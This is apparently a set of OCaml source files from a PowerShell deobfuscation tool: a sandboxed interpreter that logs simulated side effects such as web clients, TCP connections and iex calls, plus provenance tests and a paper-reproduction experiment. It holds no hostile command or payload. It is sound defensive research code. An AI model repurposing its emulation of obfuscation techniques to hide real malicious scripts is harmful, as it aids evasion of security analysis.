  | "cmd" | "cmd.exe" ->
      let args = String.concat " " (List.map Value.to_string (positional ())) in
      Env.record env (Env.Process_start ("cmd " ^ args));
      []
  | "iex" ->
      (* alias table covers this, but keep a direct route *)
      let payloads = match positional () with [] -> input | args -> args in
      List.concat_map iex_payload payloads
  | _ ->
      (match env.Env.mode with
      | Env.Recovery -> eval_fail "unknown command '%s'" original_name
      | Env.Sandbox ->
          (* unresolved commands are otherwise invisible to the sandbox;
             the effect log needs them so a rewrite that drops or alters
             one shows up as a behavioural divergence *)
          Env.log_command env (Strcase.lower original_name)
            (List.map Value.to_string (positional ()));
          if Strcase.ends_with ~suffix:".exe" lname then
            Env.record env (Env.Process_start original_name));
      []

(* ForEach-Object / Where-Object run their blocks in the CALLER's scope in
   PowerShell ($_ and assignments leak); no new scope here. *)
and invoke_script_block_no_scope ctx (sb : Value.sb) ~input =
  let inner_ctx = { ctx with src = sb.Value.sb_text } in
  Env.set_var ctx.env "input" (Value.Arr (Array.of_list input));
  try eval_statements inner_ctx sb.Value.sb_ast.A.sb_statements
  with Return_exc out -> out

and construct_object ctx type_name args =
  let t = Casts.normalize_type type_name in
  match t with
  | "net.webclient" ->
      Value.Obj { Value.otype = "System.Net.WebClient"; okind = Value.Web_client }
  | "io.memorystream" -> (
      match args with
      | [] ->
          Value.Obj
            { Value.otype = "System.IO.MemoryStream";
              okind = Value.Memory_stream { Value.data = ""; pos = 0 } }
      | [ v ] ->
          Value.Obj
            { Value.otype = "System.IO.MemoryStream";
              okind = Value.Memory_stream { Value.data = Value.value_to_bytes v; pos = 0 } }
      | _ -> eval_fail "MemoryStream: bad constructor arguments")
  | "io.compression.deflatestream" -> (
      match args with
      | stream :: _ -> (
          let data =
            match stream with
            | Value.Obj { okind = Value.Memory_stream st; _ } -> st.Value.data
            | v -> Value.value_to_bytes v
          in
          match Encoding.Inflate.inflate data with
          | Ok inflated ->
              Value.Obj
                { Value.otype = "System.IO.Compression.DeflateStream";
                  okind = Value.Deflate_stream { Value.data = inflated; pos = 0 } }
          | Error msg -> eval_fail "DeflateStream: %s" msg)
      | [] -> eval_fail "DeflateStream: bad constructor arguments")
  | "io.compression.gzipstream" -> (
      match args with
      | stream :: _ -> (
          let data =
            match stream with
            | Value.Obj { okind = Value.Memory_stream st; _ } -> st.Value.data
            | v -> Value.value_to_bytes v
          in
          (* gzip = 10-byte header + deflate + trailer *)
          let body =
            if String.length data > 18 then String.sub data 10 (String.length data - 18)
            else data
          in
          match Encoding.Inflate.inflate body with
          | Ok inflated ->
              Value.Obj
                { Value.otype = "System.IO.Compression.GzipStream";
                  okind = Value.Gzip_stream { Value.data = inflated; pos = 0 } }
          | Error msg -> eval_fail "GzipStream: %s" msg)
      | [] -> eval_fail "GzipStream: bad constructor arguments")
  | "io.streamreader" -> (
      match args with
      | stream :: _ -> (
          match stream with
          | Value.Obj { okind = Value.Memory_stream st; _ }
          | Value.Obj { okind = Value.Deflate_stream st; _ }
          | Value.Obj { okind = Value.Gzip_stream st; _ } ->
              Value.Obj
                { Value.otype = "System.IO.StreamReader";
                  okind = Value.Stream_reader { Value.data = st.Value.data; pos = st.Value.pos } }
          | Value.Str path ->
              Env.record ctx.env (Env.File_read path);
              Value.Obj
                { Value.otype = "System.IO.StreamReader";
                  okind = Value.Stream_reader { Value.data = synthetic_file_content path; pos = 0 } }
          | v -> eval_fail "StreamReader over %s unsupported" (Value.type_name v))
      | [] -> eval_fail "StreamReader: missing constructor argument")
  | "text.asciiencoding" -> Value.Obj { Value.otype = "System.Text.ASCIIEncoding"; okind = Value.Encoding_obj Value.Enc_ascii }
  | "text.utf8encoding" -> Value.Obj { Value.otype = "System.Text.UTF8Encoding"; okind = Value.Encoding_obj Value.Enc_utf8 }
  | "text.unicodeencoding" -> Value.Obj { Value.otype = "System.Text.UnicodeEncoding"; okind = Value.Encoding_obj Value.Enc_unicode }
  | "random" -> Value.Obj { Value.otype = "System.Random"; okind = Value.Generic }
  | "net.sockets.tcpclient" -> (
      (match args with
      | [ host; port ] ->
          Env.record ctx.env
            (Env.Tcp_connect (Value.to_string host, Value.to_int port))
      | _ -> ());
      Value.Obj { Value.otype = "System.Net.Sockets.TcpClient"; okind = Value.Generic })
  | other ->
      ignore other;
      Value.Obj { Value.otype = type_display_name type_name; okind = Value.Generic }

(* ---------- entry points ---------- *)

let describe_exception = function
  | Env.Eval_error m -> Some ("evaluation error: " ^ m)
  | Env.Blocked m -> Some ("blocked side effect: " ^ m)
  | Env.Limit_exceeded m -> Some ("limit exceeded: " ^ m)
  | Ops.Op_error m -> Some ("operator error: " ^ m)
  | Value.Conversion_error m -> Some ("conversion error: " ^ m)
  | Casts.Cast_error m -> Some ("cast error: " ^ m)
  | Statics.Static_error m -> Some ("static member error: " ^ m)
  | Members.Member_error m -> Some ("member error: " ^ m)
  | Format_op.Format_error m -> Some ("format error: " ^ m)
  | Regexen.Regex.Parse_error m -> Some ("regex error: " ^ m)
  | Failure m -> Some ("failure: " ^ m)
  | Invalid_argument m -> Some ("invalid argument: " ^ m)
  | Stack_overflow -> Some "stack exhausted"
  | _ -> None

let run_ast env ~src ast =
  let ctx = { env; src } in
  try eval_statement ctx ast with Return_exc out -> out | Exit_exc -> []

let run_script env src =
  (* chaos probe: an injected fault here propagates out of the interpreter
     exactly like a genuine evaluation blow-up, exercising the enclosing
     guards' containment paths *)
  Pscommon.Chaos.probe "interp.eval";
  match Psparse.Parser.parse src with
  | exception Stack_overflow -> Error "stack exhausted while parsing"
  | Error e ->
      Error
        (Printf.sprintf "syntax error at %d: %s" e.Psparse.Parser.position
           e.Psparse.Parser.message)
  | Ok ast -> (
      match run_ast env ~src ast with
      | out -> Ok out
      | exception Throw_exc v -> Error ("uncaught throw: " ^ Value.to_string v)
      | exception e -> (
          match describe_exception e with
          | Some msg -> Error msg
          | None -> raise e))

(** Execute a recoverable piece and return its output — the paper's
    "Recovery Based on Invoke" (§III-B2). *)
let invoke_piece env src =
  let module T = Pscommon.Telemetry in
  let sid =
    if T.active () then
      T.span_begin "interp.invoke_piece"
        ~attrs:
          [ ("depth", T.I env.Env.invoke_depth);
            ("bytes", T.I (String.length src)) ]
    else 0
  in
  let result =
    match run_script env src with
    | Ok out -> Ok (Value.of_list out)
    | Error msg -> Error msg
  in
  if sid <> 0 then
    T.span_end sid
      ~attrs:
        [ ("steps", T.I env.Env.steps);
          ("ok", T.B (Result.is_ok result)) ];
  result

let eval_expression_ast env ~src ast =
  let ctx = { env; src } in
  eval_expr ctx ast

