test/test_psast.ml: Alcotest Corpus Deobf List Obfuscator Option Psast Pscommon Psparse QCheck QCheck_alcotest Sandbox
