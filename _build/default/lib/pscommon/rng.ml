type t = { mutable state : int64 }

let golden_gamma = 0x9E3779B97F4A7C15L

let mix64 z =
  let z = Int64.mul (Int64.logxor z (Int64.shift_right_logical z 30)) 0xBF58476D1CE4E5B9L in
  let z = Int64.mul (Int64.logxor z (Int64.shift_right_logical z 27)) 0x94D049BB133111EBL in
  Int64.logxor z (Int64.shift_right_logical z 31)

let create seed = { state = seed }
let of_int seed = create (Int64.of_int seed)

let next_int64 t =
  t.state <- Int64.add t.state golden_gamma;
  mix64 t.state

let split t =
  let seed = next_int64 t in
  create (mix64 seed)

let copy t = { state = t.state }

let int t bound =
  if bound <= 0 then invalid_arg "Rng.int: bound <= 0";
  let v = Int64.to_int (Int64.shift_right_logical (next_int64 t) 2) in
  v mod bound

let int_in t lo hi =
  if hi < lo then invalid_arg "Rng.int_in: hi < lo";
  lo + int t (hi - lo + 1)

let bool t = Int64.logand (next_int64 t) 1L = 1L

let float t bound =
  let v = Int64.to_float (Int64.shift_right_logical (next_int64 t) 11) in
  bound *. (v /. 9007199254740992.0)

let chance t p = float t 1.0 < p

let pick t = function
  | [] -> invalid_arg "Rng.pick: empty list"
  | xs -> List.nth xs (int t (List.length xs))

let pick_weighted t choices =
  let total = List.fold_left (fun acc (w, _) -> acc +. Float.max 0.0 w) 0.0 choices in
  if total <= 0.0 then invalid_arg "Rng.pick_weighted: no positive weight";
  let target = float t total in
  let rec walk acc = function
    | [] -> invalid_arg "Rng.pick_weighted: empty list"
    | [ (_, x) ] -> x
    | (w, x) :: rest ->
        let acc = acc +. Float.max 0.0 w in
        if target < acc then x else walk acc rest
  in
  walk 0.0 choices

let shuffle t xs =
  let arr = Array.of_list xs in
  for i = Array.length arr - 1 downto 1 do
    let j = int t (i + 1) in
    let tmp = arr.(i) in
    arr.(i) <- arr.(j);
    arr.(j) <- tmp
  done;
  Array.to_list arr

let sample t k xs =
  let rec take n = function
    | [] -> []
    | x :: rest -> if n = 0 then [] else x :: take (n - 1) rest
  in
  take (min k (List.length xs)) (shuffle t xs)

let lowercase_letter t = Char.chr (Char.code 'a' + int t 26)

let letter t =
  let c = lowercase_letter t in
  if bool t then Char.uppercase_ascii c else c

let alnum t =
  if chance t 0.2 then Char.chr (Char.code '0' + int t 10) else letter t

let ident t ~min_len ~max_len =
  let len = int_in t min_len max_len in
  String.init len (fun i -> if i = 0 then letter t else alnum t)
