let lower = String.lowercase_ascii
let upper = String.uppercase_ascii
let equal a b = String.equal (lower a) (lower b)
let compare a b = String.compare (lower a) (lower b)

let starts_with ~prefix s =
  String.length prefix <= String.length s
  && equal prefix (String.sub s 0 (String.length prefix))

let ends_with ~suffix s =
  let ls = String.length s and lx = String.length suffix in
  lx <= ls && equal suffix (String.sub s (ls - lx) lx)

let index_opt ?(from = 0) ~needle s =
  let ls = String.length s and ln = String.length needle in
  if ln = 0 then None
  else
    let needle = lower needle in
    let matches_at i =
      let rec check j =
        j = ln
        || Char.lowercase_ascii s.[i + j] = needle.[j] && check (j + 1)
      in
      check 0
    in
    let rec scan i =
      if i + ln > ls then None else if matches_at i then Some i else scan (i + 1)
    in
    scan (max 0 from)

let contains ~needle s =
  String.length needle = 0 || index_opt ~needle s <> None

let replace_word ~needle ~replacement ~is_word_char s =
  if String.length needle = 0 then s
  else begin
    let buf = Buffer.create (String.length s) in
    let rec loop pos =
      match index_opt ~from:pos ~needle s with
      | None -> Buffer.add_substring buf s pos (String.length s - pos)
      | Some i ->
          let stop = i + String.length needle in
          if stop < String.length s && is_word_char s.[stop] then begin
            (* partial identifier: not a whole-word occurrence *)
            Buffer.add_substring buf s pos (stop - pos);
            loop stop
          end
          else begin
            Buffer.add_substring buf s pos (i - pos);
            Buffer.add_string buf replacement;
            loop stop
          end
    in
    loop 0;
    Buffer.contents buf
  end

let replace_all ~needle ~replacement s =
  if String.length needle = 0 then s
  else
    let buf = Buffer.create (String.length s) in
    let rec loop pos =
      match index_opt ~from:pos ~needle s with
      | None -> Buffer.add_substring buf s pos (String.length s - pos)
      | Some i ->
          Buffer.add_substring buf s pos (i - pos);
          Buffer.add_string buf replacement;
          loop (i + String.length needle)
    in
    loop 0;
    Buffer.contents buf

module Key = struct
  type t = string

  let compare = compare
end

module Map = Map.Make (Key)
module Set = Set.Make (Key)
