(** Table I — proportion of obfuscation at different levels in the wild
    corpus.

    The paper measured 1,127,349 wild samples: L1 98.07%, L2 97.84%,
    L3 96.08%.  We generate a wild-style corpus with those technique-mix
    probabilities and measure the proportions the {e detector} reports —
    so the experiment also validates the detector itself. *)

type row = { level : string; samples : int; proportion : float }

type result = { total : int; rows : row list }

let run ?(seed = 42) ?(count = 2000) () =
  let samples = Corpus.Generator.generate ~seed ~count in
  let l1 = ref 0 and l2 = ref 0 and l3 = ref 0 in
  List.iter
    (fun s ->
      let d = Deobf.Score.detect s.Corpus.Generator.obfuscated in
      let has_l1, has_l2, has_l3 = Deobf.Score.levels d in
      if has_l1 then incr l1;
      if has_l2 then incr l2;
      if has_l3 then incr l3)
    samples;
  let total = List.length samples in
  let p n = 100.0 *. float_of_int n /. float_of_int total in
  {
    total;
    rows =
      [
        { level = "L1"; samples = !l1; proportion = p !l1 };
        { level = "L2"; samples = !l2; proportion = p !l2 };
        { level = "L3"; samples = !l3; proportion = p !l3 };
      ];
  }

let print result =
  Printf.printf "Table I: proportion of obfuscation at different levels (n=%d)\n"
    result.total;
  Printf.printf "  %-6s %10s %12s   (paper: L1 98.07%%, L2 97.84%%, L3 96.08%%)\n"
    "Level" "#Samples" "Proportion";
  List.iter
    (fun r ->
      Printf.printf "  %-6s %10d %11.2f%%\n" r.level r.samples r.proportion)
    result.rows
