lib/baselines/override.ml: List Pseval Psvalue String
