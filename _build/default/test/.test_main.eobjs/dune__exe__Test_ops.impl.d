test/test_ops.ml: Alcotest Array Psast Pseval Psvalue
