lib/encoding/utf16.mli:
