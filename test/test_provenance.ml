(* Tests for the dynamic value-provenance plane: the recorder the
   interpreter stamps variable writes into, the provenance-guided dynamic
   recovery stage built on it, its per-edit rollback granularity under the
   semantic gate, chaos containment at both new probe sites, and the
   determinism/ablation contracts (jobs parallelism, chaos-seed replay,
   --no-dynamic). *)

open Pscommon
module A = Psast.Ast
module P = Pseval.Provenance
module E = Deobf.Engine
module V = Deobf.Verify
module El = Deobf.Editlog
module R = Deobf.Recover

let check_s = Alcotest.(check string)
let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)

let parses src =
  match Psparse.Parser.parse src with Ok _ -> true | Error _ -> false

let with_chaos cfg f =
  Chaos.set (Some cfg);
  Fun.protect ~finally:(fun () -> Chaos.set None) f

let cfg ?(rate = 0.0) ?(site_rates = []) seed = { Chaos.seed; rate; site_rates }

let with_temp_dir f =
  let dir =
    Filename.concat (Filename.get_temp_dir_name ())
      (Printf.sprintf "provenance-%d" (Unix.getpid ()))
  in
  let rec rm path =
    if Sys.is_directory path then begin
      Array.iter (fun n -> rm (Filename.concat path n)) (Sys.readdir path);
      Sys.rmdir path
    end
    else Sys.remove path
  in
  if Sys.file_exists dir then rm dir;
  Sys.mkdir dir 0o755;
  Fun.protect ~finally:(fun () -> if Sys.file_exists dir then rm dir)
    (fun () -> f dir)

let write path content =
  Out_channel.with_open_bin path (fun oc -> Out_channel.output_string oc content)

let read path = In_channel.with_open_bin path In_channel.input_all

(* run [src] in the sandbox with a fresh recorder installed; returns the
   recorder (execution errors fail the test) *)
let record src =
  let prov = P.create () in
  let env = Pseval.Env.create ~mode:Pseval.Env.Sandbox () in
  env.Pseval.Env.provenance <- Some prov;
  (match Pseval.Interp.run_script env src with
  | Ok _ -> ()
  | Error e -> Alcotest.failf "execution failed: %s" e);
  prov

let top_statements src =
  match Psparse.Parser.parse src with
  | Ok { A.node = A.Script_block sb; _ } -> sb.A.sb_statements
  | _ -> Alcotest.fail "parse failed"

(* ---------- recorder correctness ---------- *)

let test_straight_line_provenance () =
  let src = "$a = 'x'\n$b = $a + 'y'" in
  let prov = record src in
  check_b "not poisoned" true (P.poisoned prov = None);
  check_i "two writes" 2 (P.count prov);
  let a = Option.get (P.last_write prov "a") in
  let b = Option.get (P.last_write prov "b") in
  check_s "spelling preserved" "a" a.P.spelled;
  check_b "b depends on a" true (List.mem a.P.id b.P.deps);
  check_b "b written after a" true (b.P.step > a.P.step);
  (* the transitive closure of $b covers both defining lines *)
  let extents = P.defining_extents prov "b" in
  check_i "two defining extents" 2 (List.length extents);
  check_b "case-insensitive lookup" true (P.last_write prov "B" <> None)

let test_loop_provenance () =
  let src = "$x = 'a'\nforeach ($i in 1..3) { $x = $x + 'b' }" in
  let prov = record src in
  let loop =
    match top_statements src with
    | [ _; loop ] -> loop
    | _ -> Alcotest.fail "expected two statements"
  in
  (* one seed write plus three loop-carried writes *)
  let x_writes =
    List.filter (fun r -> r.P.var = "x") (P.records prov)
  in
  check_i "x written four times" 4 (List.length x_writes);
  let last = Option.get (P.last_write prov "x") in
  check_b "final write proven inside the loop" true
    (Extent.contains loop.A.extent last.P.extent);
  let i_last = Option.get (P.last_write prov "i") in
  check_b "loop variable writes recorded inside the loop" true
    (Extent.contains loop.A.extent i_last.P.extent)

let test_conditional_provenance () =
  let src = "$k = 7\nif ($k -lt 5) { $v = 'decoy' } else { $v = 'payload' }" in
  let prov = record src in
  let cond =
    match top_statements src with
    | [ _; cond ] -> cond
    | _ -> Alcotest.fail "expected two statements"
  in
  (* only the taken branch writes: one $k record, one $v record *)
  check_i "one write per binding" 2 (P.count prov);
  let v = Option.get (P.last_write prov "v") in
  check_b "payload write proven inside the conditional" true
    (Extent.contains cond.A.extent v.P.extent);
  let k = Option.get (P.last_write prov "k") in
  check_b "guard write outside the conditional" false
    (Extent.contains cond.A.extent k.P.extent)

let test_recorder_cap_poisons () =
  let prov = P.create ~cap:2 () in
  let e = Extent.make ~start:0 ~stop:1 in
  P.note prov ~var:"a" ~extent:e ~step:1 ~reads:[];
  P.note prov ~var:"b" ~extent:e ~step:2 ~reads:[];
  check_b "under cap: healthy" true (P.poisoned prov = None);
  P.note prov ~var:"c" ~extent:e ~step:3 ~reads:[];
  check_b "over cap: poisoned, not silently dropped" true
    (P.poisoned prov <> None);
  (* poisoning is sticky and note stays total *)
  P.note prov ~var:"d" ~extent:e ~step:4 ~reads:[];
  check_b "still poisoned" true (P.poisoned prov <> None)

let test_read_vars () =
  let src = "$c = $a + $b + $a" in
  match top_statements src with
  | [ { A.node = A.Assignment (_, _, rhs); _ } ] ->
      Alcotest.(check (list string))
        "reads deduplicated and sorted" [ "a"; "b" ] (P.read_vars rhs)
  | _ -> Alcotest.fail "parse shape"

(* ---------- dynamic recovery stage ---------- *)

let test_run_dynamic_recovers_loop () =
  let src = "$x = 'a'\nforeach ($i in 1..3) { $x = $x + 'b' }\nWrite-Output $x" in
  let stats = R.new_stats () in
  match R.run_dynamic ~opts:R.default_options ~stats src with
  | None -> Alcotest.fail "expected a dynamic recovery"
  | Some (patched, _) ->
      check_i "one region attempted" 1 stats.R.dynamic_attempted;
      check_i "one region recovered" 1 stats.R.dynamic_recovered;
      check_b "final value substituted" true
        (Strcase.contains ~needle:"'abbb'" patched);
      check_b "loop gone" false (Strcase.contains ~needle:"foreach" patched);
      (* the replacement reproduces ALL net-changed bindings, loop
         variable included, or the effect logs would diverge *)
      check_b "loop variable binding emitted" true
        (Strcase.contains ~needle:"$i = 3" patched)

let test_run_dynamic_effectful_region_unverifiable () =
  (* output inside the loop is an effect a literal assignment cannot
     reproduce — the region must degrade to static-only, untouched *)
  let src = "foreach ($i in 1..3) { Write-Output $i; $x = $i }" in
  let stats = R.new_stats () in
  let r = R.run_dynamic ~opts:R.default_options ~stats src in
  check_b "no edit applied" true (r = None);
  check_i "attempted" 1 stats.R.dynamic_attempted;
  check_i "unverifiable" 1 stats.R.dynamic_unverifiable;
  check_i "not recovered" 0 stats.R.dynamic_recovered

let test_run_dynamic_disabled_is_none () =
  let src = "$x = 'a'\nforeach ($i in 1..3) { $x = $x + 'b' }" in
  let opts = { R.default_options with R.use_dynamic = false } in
  let stats = R.new_stats () in
  check_b "disabled: no result" true (R.run_dynamic ~opts ~stats src = None);
  check_i "disabled: nothing attempted" 0 stats.R.dynamic_attempted

let test_no_dynamic_ablation_equals_static_only () =
  let src = "$x = 'a'\nforeach ($i in 1..3) { $x = $x + 'b' }\nWrite-Output $x" in
  let static_opts =
    { E.default_options with
      E.recovery = { E.default_options.E.recovery with E.use_dynamic = false } }
  in
  let ablated = (E.run ~options:static_opts src).E.output in
  let full = (E.run src).E.output in
  (* ablation keeps the loop (static tracing must not touch loop-carried
     bindings any more); the dynamic stage folds it *)
  check_b "ablated output keeps the loop" true
    (Strcase.contains ~needle:"foreach" ablated);
  check_b "dynamic output folds the loop" true
    (Strcase.contains ~needle:"'abbb'" full);
  (* determinism of both paths *)
  check_s "ablated path deterministic" ablated
    (E.run ~options:static_opts src).E.output;
  check_s "dynamic path deterministic" full (E.run src).E.output

(* every edit the dynamic stage applies is individually journaled: the
   journal gains exactly one recover/dynamic.* entry per recovered region,
   each individually suppressible *)
let test_dynamic_edits_individually_journaled () =
  let src =
    "$x = 'a'\nforeach ($i in 1..3) { $x = $x + 'b' }\n\
     $k = 7\nif ($k -lt 5) { $v = 'no' } else { $v = 'yes' }\n\
     Write-Output $x $v"
  in
  let g = E.run_guarded src in
  let dynamic_edits =
    List.filter
      (fun (e : El.edit) ->
        e.El.phase = "recover"
        && String.length e.El.kind >= 8
        && String.sub e.El.kind 0 8 = "dynamic.")
      (Array.to_list (El.flatten g.E.edit_log))
  in
  check_i "both regions journaled separately" 2 (List.length dynamic_edits);
  let kinds = List.map (fun (e : El.edit) -> e.El.kind) dynamic_edits in
  check_b "loop kind present" true (List.mem "dynamic.loop" kinds);
  check_b "conditional kind present" true (List.mem "dynamic.conditional" kinds);
  (* suppressing one dynamic edit rolls back exactly that region *)
  let loop_edit =
    List.find (fun (e : El.edit) -> e.El.kind = "dynamic.loop") dynamic_edits
  in
  let g2 = E.run_guarded ~suppress:[ El.suppress_edit loop_edit ] src in
  let out2 = g2.E.result.E.output in
  check_b "suppressed region back to original" true
    (Strcase.contains ~needle:"foreach" out2);
  check_b "other dynamic region still recovered" true
    (Strcase.contains ~needle:"'yes'" out2
    && not (Strcase.contains ~needle:"-lt" out2))

(* forced-failure variant: a synthetic behaviour-changing edit journaled
   under a recover/dynamic.* rule — the gate must bisect to exactly that
   edit, roll it back, and attribute it via [dynamic_rolled_back] *)
let test_gate_rolls_back_bad_dynamic_edit () =
  let src = "Write-Output ('ke'+'ep'); Write-Output 'safe'" in
  let bad_before = "'safe'" and bad_after = "'EVIL'" in
  let rerun ~suppress =
    let g = E.run_guarded ~suppress src in
    let out = g.E.result.E.output in
    if
      El.suppressed suppress ~phase:"recover" ~before:bad_before
        ~after:bad_after
    then g
    else
      let idx =
        match Strcase.index_opt ~needle:bad_before out with
        | Some i -> i
        | None -> 0
      in
      let edit =
        Patch.edit
          (Extent.make ~start:idx ~stop:(idx + String.length bad_before))
          bad_after
      in
      let patched = Patch.apply out [ edit ] in
      let stage_log = El.create () in
      El.record_stage stage_log ~phase:"recover" ~pass:99 ~src:out
        [ (edit, "dynamic.loop") ];
      {
        g with
        E.result = { g.E.result with E.output = patched; changed = true };
        edit_log = g.E.edit_log @ El.stages stage_log;
      }
  in
  let g, o = V.gate ~rerun ~src (rerun ~suppress:[]) in
  (match o.V.verdict with
  | V.Rolled_back 1 -> ()
  | v -> Alcotest.failf "expected rolled_back 1, got %s" (V.verdict_name v));
  check_i "attributed as a dynamic rollback" 1 o.V.dynamic_rolled_back;
  Alcotest.(check (list string))
    "rule key is recover.dynamic.loop" [ "recover.dynamic.loop" ]
    o.V.rolled_rules;
  check_b "benign rewrite kept" true
    (Strcase.contains ~needle:"'keep'" g.E.result.E.output)

(* ---------- chaos containment at the new sites ---------- *)

let test_chaos_interp_provenance_contained () =
  (* a recorder fault poisons provenance: the region degrades to
     static-only instead of admitting an unproven substitution — and the
     run never crashes *)
  let src = "$x = 'a'\nforeach ($i in 1..3) { $x = $x + 'b' }\nWrite-Output $x" in
  with_chaos (cfg 11 ~site_rates:[ ("interp.provenance", 1.0) ]) (fun () ->
      let g = Chaos.with_scope "provenance-chaos" (fun () -> E.run_guarded src) in
      let out = g.E.result.E.output in
      check_b "output parses" true (parses out);
      check_i "nothing recovered dynamically" 0
        g.E.result.E.stats.R.dynamic_recovered;
      check_b "loop left in place" true (Strcase.contains ~needle:"foreach" out))

let test_chaos_recover_dynamic_contained () =
  (* a fault at the recover.dynamic site escapes the per-candidate handler
     by design and is contained by the engine's dynamic-phase guard: the
     run degrades to the static output with a classified failure site *)
  let src = "$x = 'a'\nforeach ($i in 1..3) { $x = $x + 'b' }\nWrite-Output $x" in
  with_chaos (cfg 13 ~site_rates:[ ("recover.dynamic", 1.0) ]) (fun () ->
      (* pin the draw stream: the injected fault kind is a stream draw, and
         the ambient stream's position depends on every probe fired earlier
         in the process — scoping makes the test order-independent *)
      let g = Chaos.with_scope "provenance-chaos" (fun () -> E.run_guarded src) in
      let out = g.E.result.E.output in
      check_b "output parses" true (parses out);
      check_b "loop left in place" true (Strcase.contains ~needle:"foreach" out);
      check_b "failure classified under the dynamic phase" true
        (List.exists
           (fun (s : E.failure_site) -> s.E.phase = "dynamic")
           g.E.failures))

let test_chaos_seed_replay_byte_identical () =
  (* injection is a pure function of (seed, probe order): with dynamic
     recovery on, the same chaos seed replays to the same bytes *)
  let src = "$x = 'a'\nforeach ($i in 1..3) { $x = $x + 'b' }\nWrite-Output $x" in
  let run_with seed =
    with_chaos
      (cfg seed ~rate:0.2
         ~site_rates:
           [ ("interp.provenance", 0.5); ("recover.dynamic", 0.5) ])
      (fun () ->
        (* the scope pins the draw stream to (seed, label), exactly as
           batch scopes it per file — without it the ambient domain
           stream keeps its position across runs *)
        Chaos.with_scope "provenance-replay" (fun () ->
            (E.run_guarded src).E.result.E.output))
  in
  List.iter
    (fun seed ->
      check_s
        (Printf.sprintf "seed %d replays identically" seed)
        (run_with seed) (run_with seed))
    [ 3; 17; 59 ]

(* ---------- obfuscator round-trip and parallel identity ---------- *)

let test_dynamic_corpus_recovers_and_verifies () =
  let samples = Corpus.Generator.generate_dynamic ~seed:41 ~count:6 in
  check_i "samples generated" 6 (List.length samples);
  List.iter
    (fun (s : Corpus.Generator.sample) ->
      check_b "obfuscation fired" true
        (not (String.equal s.Corpus.Generator.clean s.Corpus.Generator.obfuscated));
      let g, o = V.run_guarded s.Corpus.Generator.obfuscated in
      check_s
        (Printf.sprintf "sample %d verdict" s.Corpus.Generator.id)
        "equivalent"
        (V.verdict_name o.V.verdict);
      check_b
        (Printf.sprintf "sample %d dynamic region attempted" s.Corpus.Generator.id)
        true
        (g.E.result.E.stats.R.dynamic_attempted > 0))
    samples

let test_batch_dynamic_jobs_byte_identical () =
  with_temp_dir (fun dir ->
      let in_dir = Filename.concat dir "in" in
      Sys.mkdir in_dir 0o755;
      let files =
        List.map
          (fun (s : Corpus.Generator.sample) ->
            let path =
              Filename.concat in_dir
                (Printf.sprintf "d%04d.ps1" s.Corpus.Generator.id)
            in
            write path s.Corpus.Generator.obfuscated;
            path)
          (Corpus.Generator.generate_dynamic ~seed:77 ~count:8)
      in
      let out1 = Filename.concat dir "out1" in
      let out4 = Filename.concat dir "out4" in
      let s1 =
        Deobf.Batch.run_files ~timeout_s:20.0 ~out_dir:out1 ~jobs:1
          ~verify:true files
      in
      let s4 =
        Deobf.Batch.run_files ~timeout_s:20.0 ~out_dir:out4 ~jobs:4
          ~verify:true files
      in
      check_i "all processed" 8 s1.Deobf.Batch.total;
      check_b "dynamic recovery exercised" true
        (List.exists
           (fun (o : Deobf.Batch.outcome) ->
             o.Deobf.Batch.stats.R.dynamic_recovered > 0)
           s1.Deobf.Batch.outcomes);
      List.iter2
        (fun (a : Deobf.Batch.outcome) (b : Deobf.Batch.outcome) ->
          check_s "same verdict across jobs"
            (match a.Deobf.Batch.verdict with
            | Some v -> V.verdict_name v
            | None -> "off")
            (match b.Deobf.Batch.verdict with
            | Some v -> V.verdict_name v
            | None -> "off"))
        s1.Deobf.Batch.outcomes s4.Deobf.Batch.outcomes;
      List.iter
        (fun file ->
          let base = Filename.basename file in
          check_s
            (Printf.sprintf "%s identical across jobs" base)
            (read (Filename.concat out1 base))
            (read (Filename.concat out4 base)))
        files)

(* ---------- properties ---------- *)

(* totality: byte-mutated dynamic samples never crash the engine, with the
   dynamic stage on *)
let prop_mutated_dynamic_input_total =
  QCheck.Test.make ~name:"provenance: engine total on mutated dynamic input"
    ~count:40
    QCheck.(triple small_nat small_nat small_nat)
    (fun (seed, cut_a, cut_b) ->
      match Corpus.Generator.generate_dynamic ~seed:(seed + 1) ~count:1 with
      | [ s ] -> (
          let ob = s.Corpus.Generator.obfuscated in
          let n = String.length ob in
          let a = cut_a mod (n + 1) and b = cut_b mod (n + 1) in
          let lo = min a b and hi = max a b in
          let mutated = String.sub ob 0 lo ^ String.sub ob hi (n - hi) in
          match E.run mutated with _ -> true | exception _ -> false)
      | _ -> false)

let suite =
  [
    Alcotest.test_case "recorder: straight-line provenance" `Quick
      test_straight_line_provenance;
    Alcotest.test_case "recorder: loop-carried writes proven in loop" `Quick
      test_loop_provenance;
    Alcotest.test_case "recorder: conditional writes proven in branch" `Quick
      test_conditional_provenance;
    Alcotest.test_case "recorder: cap overflow poisons" `Quick
      test_recorder_cap_poisons;
    Alcotest.test_case "recorder: read_vars" `Quick test_read_vars;
    Alcotest.test_case "dynamic: recovers loop-built value" `Quick
      test_run_dynamic_recovers_loop;
    Alcotest.test_case "dynamic: effectful region unverifiable" `Quick
      test_run_dynamic_effectful_region_unverifiable;
    Alcotest.test_case "dynamic: disabled returns nothing" `Quick
      test_run_dynamic_disabled_is_none;
    Alcotest.test_case "dynamic: --no-dynamic ablation is static-only" `Quick
      test_no_dynamic_ablation_equals_static_only;
    Alcotest.test_case "dynamic: edits individually journaled/suppressible"
      `Quick test_dynamic_edits_individually_journaled;
    Alcotest.test_case "gate: bad dynamic edit rolled back and attributed"
      `Quick test_gate_rolls_back_bad_dynamic_edit;
    Alcotest.test_case "chaos: interp.provenance contained" `Quick
      test_chaos_interp_provenance_contained;
    Alcotest.test_case "chaos: recover.dynamic contained" `Quick
      test_chaos_recover_dynamic_contained;
    Alcotest.test_case "chaos: seed replay byte-identical" `Quick
      test_chaos_seed_replay_byte_identical;
    Alcotest.test_case "corpus: dynamic samples recover and verify" `Slow
      test_dynamic_corpus_recovers_and_verifies;
    Alcotest.test_case "batch: dynamic corpus jobs=4 byte-identical" `Slow
      test_batch_dynamic_jobs_byte_identical;
    QCheck_alcotest.to_alcotest prop_mutated_dynamic_input_total;
  ]
