(** Crash-isolated batch processing over a directory of samples, in
    parallel across a fixed-size domain pool. *)

module Guard = Pscommon.Guard
module Pool = Pscommon.Pool
module T = Pscommon.Telemetry
module Chaos = Pscommon.Chaos

(* ---------- the degraded-mode retry ladder ---------- *)

type mode = Full | Static | Token_only | Passthrough

let mode_name = function
